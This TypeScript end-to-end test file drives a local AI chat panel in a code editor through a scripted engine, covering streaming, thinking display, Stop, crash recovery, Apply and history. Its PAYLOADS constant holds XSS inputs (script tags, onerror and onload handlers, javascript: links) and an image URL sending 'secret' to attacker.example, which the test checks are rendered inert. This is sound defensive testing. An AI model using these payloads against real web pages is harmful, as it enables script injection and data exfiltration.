/**
 * The chat side panel in the real workbench, with the scripted engine (answers come from a script, streamed token
 * by token through the real worker, client and webview): open the panel, stream an answer with live thinking, the
 * thinking toggle, Stop, model output carrying HTML/script payloads rendered as inert text, a crash mid-answer,
 * Apply with a diff, and the history after a reload. Screenshots in .artifacts/e2e/.
 */
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import type { Dialog, Frame, FrameLocator } from "playwright-core";
import type { ScriptedResponse } from "../../../src/engine/scriptedBackend";
import { sampleWorkspace } from "../support/paths";
import { scriptedWorkspace } from "../support/scripted";
import { useWorkbench, type SessionOptions } from "../support/session";

/** Matches a prompt whose last user message ends with `marker` (thinking on, off, or either). */
function lastMessage(marker: string, thinking?: boolean): string {
    const prefill = thinking === undefined ? "<think>\\n(\\n</think>\\n\\n)?" : thinking ? "<think>\\n" : "<think>\\n\\n</think>\\n\\n";
    return `${marker}<\\|im_end\\|>\\n<\\|im_start\\|>assistant\\n${prefill}$`;
}

const PAYLOADS = [
    "Here is what you asked for: <img src=x onerror=\"window.__qwenPwned='img';document.title='pwned'\"> and " +
        "<script>window.__qwenPwned='script';document.title='pwned'</script>",
    "",
    "A [markdown link](javascript:window.__qwenPwned='link') and <a href=\"javascript:window.__qwenPwned='anchor'\">a raw anchor</a>.",
    "",
    "<iframe src=\"javascript:window.parent.__qwenPwned='iframe'\"></iframe><svg onload=\"window.__qwenPwned='svg'\"></svg>",
    "",
    "![tracking pixel](https://attacker.example/collect?q=secret)",
    "",
    "<details open ontoggle=\"window.__qwenPwned='details'\">x</details>"
].join("\n");

const responses: ScriptedResponse[] = [
    {
        match: lastMessage("Hello Qwen", true), repeat: true, tokenDelayMs: 70,
        text: "The user greets me. I should greet them back and show a small example.\n</think>\n\n" +
            "Hello! Here is a **tiny** example:\n\n```ts src/format.ts\nexport const answer: number = 42;\n```\n\nAnything else?"
    },
    { match: lastMessage("Hello Qwen", false), repeat: true, tokenDelayMs: 20, text: "Hello without thinking." },
    // Thinking is on for these: the model closes its (empty) thinking at once and answers.
    { match: lastMessage("Write a long essay"), repeat: true, tokenDelayMs: 60, text: `</think>\n\n${"word ".repeat(600)}` },
    { match: lastMessage("Show payloads"), repeat: true, tokenDelayMs: 2, text: `</think>\n\n${PAYLOADS}` },
    { match: lastMessage("Crash please"), repeat: true, tokenDelayMs: 60, crashAfterTokens: 10, text: "</think>\n\nThis partial answer survives the crash of the engine process." },
    // First messages that name a chat in the chat list, for the tests that reopen one.
    { match: lastMessage("Remember this chat"), repeat: true, text: "</think>\n\nRemembered." },
    { match: lastMessage("Edit me later"), repeat: true, text: "</think>\n\nNoted." }
];

describe("the chat panel (UI)", function () {
    this.timeout(180_000);
    let scriptDir: string;
    const options: SessionOptions = {};

    // Runs before the session's own hook: the model, the engine script and a workspace copy must exist when code-server starts.
    before(async () => {
        ({ dir: scriptDir } = await scriptedWorkspace(options, responses, { fixture: sampleWorkspace }, { tokenDelayMs: 20, contextSize: 4096 }));
    });

    const session = useWorkbench(options);

    after(() => {
        if (scriptDir) fs.rmSync(scriptDir, { recursive: true, force: true });
    });

    /** The chat webview's content frame (a FrameLocator for actions, a Frame for evaluate). */
    async function chat(): Promise<{ view: FrameLocator; frame: Frame }> {
        const view = await session.workbench.webview("#chat-input", 60_000);
        for (const frame of session.workbench.page.frames()) {
            if (await frame.$("#chat-input").catch(() => null)) return { view, frame };
        }
        throw new Error("the chat webview frame is gone");
    }

    /** From the activity bar (a click on the icon of an open container would close it), or by command. */
    async function openPanel(viaIcon: boolean): Promise<void> {
        if (viaIcon) await session.workbench.page.locator(".part.activitybar .action-item [aria-label^='Qwen Local']").first().click();
        else await session.workbench.runCommand("Qwen Local: Open Chat");
        await chat();
    }

    /** Sends a message and waits until its exchange is on screen. */
    async function send(text: string): Promise<void> {
        const { view } = await chat();
        await view.locator("#send").waitFor({ state: "visible", timeout: 30_000 });
        const before = await view.locator("#thread .exchange").count();
        await view.locator("#chat-input").fill(text);
        await view.locator("#chat-input").press("Enter");
        const deadline = Date.now() + 30_000;
        while (await view.locator("#thread .exchange").count() <= before) {
            if (Date.now() > deadline) throw new Error(`the message "${text}" did not appear`);
            await session.workbench.page.waitForTimeout(50);
        }
    }

    /** The last answer's element, once it exists. */
    async function lastAnswer() {
        const { view } = await chat();
        const answer = view.locator("#thread article.assistant").last();
        await answer.waitFor({ timeout: 30_000 });
        return answer;
    }

    async function waitForIdle(timeoutMs = 60_000): Promise<void> {
        const { view } = await chat();
        await view.locator("#send").waitFor({ state: "visible", timeout: timeoutMs });
    }

    it("opens from its activity-bar icon, with an empty conversation and the context chips", async function () {
        const { page } = session.workbench;
        page.on("console", (m) => { if (process.env.QWEN_E2E_CONSOLE) process.stderr.write(`[console ${m.type()}] ${m.text().slice(0, 500)}\n`); });
        // Something to attach: the workspace's format.ts in the editor.
        await page.keyboard.press("Control+P");
        await page.locator(".quick-input-widget input").fill("format.ts");
        await page.locator(".quick-input-list .monaco-list-row").first().waitFor({ timeout: 20_000 });
        await page.keyboard.press("Enter");
        await page.locator(".tabs-container .tab", { hasText: "format.ts" }).first().waitFor({ timeout: 20_000 });
        await openPanel(true);
        const { view } = await chat();
        await view.locator(".welcome").waitFor({ timeout: 20_000 });
        await view.locator("#chips .chip.activeFile", { hasText: "format.ts" }).waitFor({ timeout: 20_000 });
        assert.equal(await view.locator("#thinking-toggle").getAttribute("aria-pressed"), "true", "thinking defaults to the setting (on)");
        assert.match(await view.locator("#context-meter-label").innerText(), /\/ 4\.1k/);
        await session.workbench.screenshot(this.test!.fullTitle());
    });

    describe("in a new chat", () => {
        // Each test starts from its own empty chat, thinking on, no file attached: none relies on another's conversation.
        beforeEach(async () => {
            await session.workbench.runCommand("Qwen Local: Open Chat");
            const { view } = await chat();
            await waitForIdle();
            await session.workbench.runCommand("Qwen Local: New Chat");
            await view.locator(".welcome").waitFor({ timeout: 20_000 });
            // The active file's chip would attach it to every message: remove it.
            const fileChip = view.locator("#chips .chip.activeFile");
            if (await fileChip.count() > 0) {
                await fileChip.locator(".chip-remove").click();
                await fileChip.waitFor({ state: "detached", timeout: 10_000 });
            }
            if (await view.locator("#thinking-toggle").getAttribute("aria-pressed") !== "true") await view.locator("#thinking-toggle").click();
            await view.locator("#thinking-toggle[aria-pressed='true']").waitFor({ timeout: 10_000 });
        });

        it("streams the answer after live thinking that collapses when the answer starts", async function () {
            const { view } = await chat();
            await send("Hello Qwen");
            const answer = await lastAnswer();
            const thinking = answer.locator("details.thinking");
            await thinking.waitFor({ timeout: 30_000 });
            // While the model thinks: the block is open and counts.
            await answer.locator("details.thinking[open] summary", { hasText: "Thinking…" }).waitFor({ timeout: 30_000 });
            await session.workbench.screenshot(`${this.test!.fullTitle()} 1 thinking`, 0);
            // Then the answer streams in: sample its length as it grows.
            const lengths: number[] = [];
            const body = answer.locator(".answer-body");
            await body.waitFor({ timeout: 30_000 });
            for (let i = 0; i < 200 && !(await view.locator("#send").isVisible()); i++) {
                lengths.push((await body.innerText().catch(() => "")).length);
                await session.workbench.page.waitForTimeout(50);
            }
            const distinct = [...new Set(lengths)];
            assert.ok(distinct.length >= 3, `the answer grew in steps: ${distinct.join(", ")}`);
            await waitForIdle();
            assert.match(await body.innerText(), /Hello! Here is a tiny example/);
            assert.equal(await answer.locator(".answer-body strong").innerText(), "tiny", "Markdown is rendered");
            assert.ok(await answer.locator(".code-block .hljs-keyword").count() > 0, "code is highlighted");
            assert.deepEqual(await answer.locator(".code-toolbar button").allInnerTexts(), ["Copy", "Insert", "Apply…"]);
            // Collapsed once the answer started, with its duration and token count.
            assert.equal(await thinking.getAttribute("open"), null);
            assert.match(await thinking.locator("summary").innerText(), /Thought\s*[\d.]+ (ms|s) · \d+ tokens/);
            const footer = await view.locator("#chat-footer").innerText();
            assert.match(footer, /[\d.]+ tok\/s/);
            assert.match(footer, /first token [\d.]+ (ms|s)/);
            await session.workbench.screenshot(`${this.test!.fullTitle()} 2 answered`);
        });

        it("the thinking toggle turns the thinking block off for the next message", async function () {
            const { view } = await chat();
            await view.locator("#thinking-toggle").click();
            assert.equal(await view.locator("#thinking-toggle").getAttribute("aria-pressed"), "false");
            await send("Hello Qwen");
            await waitForIdle();
            const answer = await lastAnswer();
            await answer.locator(".answer-body", { hasText: "Hello without thinking." }).waitFor({ timeout: 30_000 });
            assert.equal(await answer.locator("details.thinking").count(), 0);
            await session.workbench.screenshot(this.test!.fullTitle());
            await view.locator("#thinking-toggle").click();
            assert.equal(await view.locator("#thinking-toggle").getAttribute("aria-pressed"), "true");
        });

        it("@ attaches a workspace file through a fuzzy picker, as a removable chip", async function () {
            const { view } = await chat();
            const { page } = session.workbench;
            await view.locator("#chat-input").focus();
            await view.locator("#chat-input").pressSequentially("@");
            const input = page.locator(".quick-input-widget input");
            await input.waitFor({ state: "visible", timeout: 20_000 });
            await input.fill("stts");
            await page.locator(".quick-input-list .monaco-list-row", { hasText: "stats.py" }).first().waitFor({ timeout: 20_000 });
            await session.workbench.screenshot(`${this.test!.fullTitle()} 1 picker`, 0);
            await page.keyboard.press("Enter");
            const chip = view.locator("#chips .chip.file", { hasText: "stats.py" });
            await chip.waitFor({ timeout: 20_000 });
            assert.equal(await view.locator("#chat-input").inputValue(), "", "the @ opened the picker instead of being typed");
            assert.match(await chip.getAttribute("title") ?? "", /stats\.py \(≈\d+ tokens\)/);
            await session.workbench.screenshot(`${this.test!.fullTitle()} 2 chip`);
            await chip.locator(".chip-remove").click();
            await chip.waitFor({ state: "detached", timeout: 10_000 });
        });

        it("Stop stops the generation and keeps the partial answer", async function () {
            const { view } = await chat();
            await send("Write a long essay");
            const answer = await lastAnswer();
            const body = answer.locator(".answer-body");
            await body.waitFor({ timeout: 30_000 });
            while ((await body.innerText()).length < 40) await session.workbench.page.waitForTimeout(50);
            await view.locator("#stop").click();
            await answer.locator(".answer-status.stopped").waitFor({ timeout: 10_000 });
            await view.locator("#send").waitFor({ state: "visible", timeout: 10_000 });
            const stopped = (await body.innerText()).length;
            // The stopped mark comes after the turn has ended, and the engine's client drops any chunk of a finished
            // request: a regenerated answer is the next thing that can write here, so nothing may have been added.
            assert.equal((await body.innerText()).length, stopped, "no text arrives after Stop");
            assert.ok(stopped < "word ".repeat(600).length / 2, `stopped early (${stopped} characters)`);
            await session.workbench.screenshot(this.test!.fullTitle());
        });

        it("renders model output carrying HTML and script payloads as text, and runs none of it", async function () {
            const { frame } = await chat();
            const dialogs: string[] = [];
            const onDialog = (dialog: Dialog) => {
                dialogs.push(dialog.message());
                void dialog.dismiss();
            };
            session.workbench.page.on("dialog", onDialog);
            const titleBefore = await frame.evaluate("document.title");
            await send("Show payloads");
            await waitForIdle();
            const answer = await lastAnswer();
            const body = answer.locator(".answer-body");
            const text = await body.innerText();
            assert.ok(text.includes("<img src=x onerror="), "the <img> tag is shown as text");
            assert.ok(text.includes("<script>window.__qwenPwned='script'"), "the <script> tag is shown as text");
            assert.ok(text.includes("<iframe src="), "the <iframe> tag is shown as text");
            const found = await frame.evaluate(`(() => {
                const thread = document.getElementById("thread");
                return {
                    elements: [...thread.querySelectorAll("img, script, iframe, svg, object, embed, form, input, details:not(.thinking), style")].map((e) => e.tagName),
                    handlers: [...thread.querySelectorAll("*")].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith("on")),
                    links: [...thread.querySelectorAll("a")].map((a) => a.getAttribute("href")),
                    pwned: window.__qwenPwned === undefined ? null : String(window.__qwenPwned),
                    parentPwned: (() => { try { return window.parent.__qwenPwned === undefined ? null : "parent"; } catch { return null; } })()
                };
            })()`) as { elements: string[]; handlers: string[]; links: (string | null)[]; pwned: string | null; parentPwned: string | null };
            assert.deepEqual(found.elements, [], "no active elements from the model");
            assert.deepEqual(found.handlers, [], "no event-handler attributes");
            assert.ok(found.links.every((href) => href !== null && /^https?:/.test(href)), `links: ${found.links.join(", ")}`);
            assert.equal(found.pwned, null, "no payload ran");
            assert.equal(found.parentPwned, null);
            assert.equal(await frame.evaluate("document.title"), titleBefore);
            // The panel's policy: nothing but its own nonce'd script, styles and font from the extension.
            const policy = String(await frame.evaluate("document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]').content"));
            assert.match(policy, /^default-src 'none'; script-src 'nonce-[\w+/=]+'; style-src [^;]+; font-src [^;]+$/);
            assert.doesNotMatch(policy, /unsafe|data:|http:/);
            session.workbench.page.off("dialog", onDialog);
            assert.deepEqual(dialogs, []);
            await session.workbench.screenshot(this.test!.fullTitle());
        });

        it("keeps the partial answer, marked, when the engine crashes mid-answer", async function () {
            await send("Crash please");
            const answer = await lastAnswer();
            await answer.locator(".answer-status.interrupted").waitFor({ timeout: 30_000 });
            assert.match(await answer.locator(".answer-body").innerText(), /^This partial answer/);
            assert.match(await answer.locator(".answer-status").innerText(), /stopped unexpectedly/);
            await session.workbench.screenshot(this.test!.fullTitle());
        });

        it("Apply shows the code block as a diff of the file it names, and Accept applies it", async function () {
            await chat();
            const { page } = session.workbench;
            await send("Hello Qwen");
            await waitForIdle();
            await (await lastAnswer()).locator(".code-apply").first().click();
            const diff = page.locator(".tabs-container .tab", { hasText: "format.ts ↔ Qwen: Apply" }).first();
            await diff.waitFor({ timeout: 30_000 });
            await page.locator(".monaco-diff-editor").first().waitFor({ timeout: 20_000 });
            await session.workbench.notification("Apply: accept the change to src/format.ts?").waitFor({ timeout: 20_000 });
            await session.workbench.screenshot(`${this.test!.fullTitle()} 1 diff`);
            await session.workbench.notification("Apply: accept the change").locator(".monaco-button", { hasText: "Accept" }).first().click();
            await diff.waitFor({ state: "detached", timeout: 20_000 });
            await page.locator(".monaco-editor .view-lines", { hasText: "export const answer: number = 42;" }).first().waitFor({ timeout: 20_000 });
            // One undoable edit, not saved: save it, as a person would (an unsaved file would also hold up the reload).
            await page.keyboard.press("Control+S");
            const file = path.join(options.folder!, "src", "format.ts");
            for (let i = 0; i < 100 && !fs.readFileSync(file, "utf8").startsWith("export const answer"); i++) await page.waitForTimeout(100);
            assert.equal(fs.readFileSync(file, "utf8"), "export const answer: number = 42;\n");
            await session.workbench.screenshot(`${this.test!.fullTitle()} 2 applied`);
        });

        it("the conversation and the chat list survive a reload of the window", async function () {
            const { page } = session.workbench;
            await send("Remember this chat");
            await waitForIdle();
            await send("Crash please");
            await (await lastAnswer()).locator(".answer-status.interrupted").waitFor({ timeout: 30_000 });
            await page.reload({ waitUntil: "domcontentloaded" });
            await session.workbench.ready();
            await openPanel(false);
            const { view } = await chat();
            const userTexts = view.locator("#thread .user-text");
            await userTexts.first().waitFor({ timeout: 30_000 });
            assert.deepEqual(await userTexts.allInnerTexts(), ["Remember this chat", "Crash please"]);
            await view.locator("#thread .answer-status.interrupted").waitFor({ timeout: 10_000 });
            await session.workbench.screenshot(`${this.test!.fullTitle()} 1 reloaded`);

            // A new chat, then back to the first one from the list.
            await session.workbench.runCommand("Qwen Local: New Chat");
            await view.locator(".welcome").waitFor({ timeout: 20_000 });
            await session.workbench.runCommand("Qwen Local: Chat History");
            const entry = view.locator("#history .history-open", { hasText: "Remember this chat" }).first();
            await entry.waitFor({ timeout: 20_000 });
            await session.workbench.screenshot(`${this.test!.fullTitle()} 2 chat list`);
            await entry.click();
            await view.locator("#thread .user-text", { hasText: "Crash please" }).waitFor({ timeout: 20_000 });
        });

        it("edits and resends the last message of a reopened chat", async function () {
            const { view } = await chat();
            await send("Edit me later");
            await waitForIdle();
            await send("Crash please");
            await (await lastAnswer()).locator(".answer-status.interrupted").waitFor({ timeout: 30_000 });
            await session.workbench.runCommand("Qwen Local: New Chat");
            await view.locator(".welcome").waitFor({ timeout: 20_000 });
            await session.workbench.runCommand("Qwen Local: Chat History");
            await view.locator("#history .history-open", { hasText: "Edit me later" }).first().click();
            await view.locator("#thread .user-text", { hasText: "Crash please" }).waitFor({ timeout: 20_000 });
            await view.locator("#thread .edit-last").click();
            assert.equal(await view.locator("#chat-input").inputValue(), "Crash please");
            await view.locator("#edit-banner").waitFor({ timeout: 5000 });
            await view.locator("#chat-input").fill("Hello Qwen");
            await view.locator("#chat-input").press("Enter");
            const answer = view.locator("#thread article.assistant").last();
            await answer.locator(".answer-body", { hasText: "Hello! Here is a tiny example" }).waitFor({ timeout: 60_000 });
            await waitForIdle();
            assert.deepEqual(await view.locator("#thread .user-text").allInnerTexts(), ["Edit me later", "Hello Qwen"]);
            assert.equal(await view.locator("#thread .answer-status.interrupted").count(), 0, "the interrupted answer was replaced");
            await session.workbench.screenshot(this.test!.fullTitle());
        });
    });
});
